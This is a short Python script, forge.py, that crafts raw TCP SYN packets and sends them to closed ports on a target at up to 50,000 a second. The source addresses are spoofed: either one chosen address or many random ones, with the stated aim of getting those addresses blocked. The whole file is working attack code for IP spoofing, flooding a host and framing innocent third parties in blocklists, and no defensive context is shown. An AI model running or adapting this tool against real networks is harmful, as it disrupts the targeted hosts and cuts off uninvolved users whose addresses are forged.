#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""forge.py IFACE TARGET TARGET_MAC COUNT SOURCE|random

Sends COUNT SYNs that look like a Linux client's, each to another closed port,
in the name of SOURCE or three in each of many random names (enough to get one
blocked), at most 50,000 a second."""
import errno
import random
import socket
import struct
import sys
import time

OPTIONS = bytes.fromhex("020405b40402080a0102030400000000" "01030307")


def checksum(data):
    total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff


def syn(source, target, sport, dport, seq):
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 60, random.getrandbits(16), 0x4000, 61, 6, 0,
                     source, target)
    ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
    tcp = struct.pack(">HHIIBBHHH", sport, dport, seq, 0, 0xa0, 2, 64240, 0, 0) + OPTIONS
    pseudo = source + target + struct.pack(">BBH", 0, 6, len(tcp))
    return ip + tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]


def random_name(rng):
    return bytes([rng.choice((11, 23, 45, 77, 101)), rng.getrandbits(8), rng.getrandbits(8),
                  rng.randrange(1, 255)])


def put(wire, frame):
    """Sends it, when the queue has room again."""
    while True:
        try:
            wire.send(frame)
            return
        except OSError as e:
            if e.errno != errno.ENOBUFS:
                raise
            time.sleep(0.001)


def main():
    iface, target, mac, count, name = sys.argv[1:]
    rng = random.Random(int(count))
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((iface, 0))
    ethernet = bytes.fromhex(mac.replace(":", "")) + bytes(6) + b"\x08\x00"
    to = socket.inet_aton(target)
    start = time.monotonic()
    for n in range(int(count)):
        if n % 3 == 0:
            source = random_name(rng) if name == "random" else socket.inet_aton(name)
        port = rng.randrange(500, 30000)
        put(wire, ethernet + syn(source, to, rng.randrange(1024, 65536), port,
                                 rng.getrandbits(32)))
        if n % 200 == 199:
            time.sleep(max(0, start + n / 50000 - time.monotonic()))


if __name__ == "__main__":
    main()
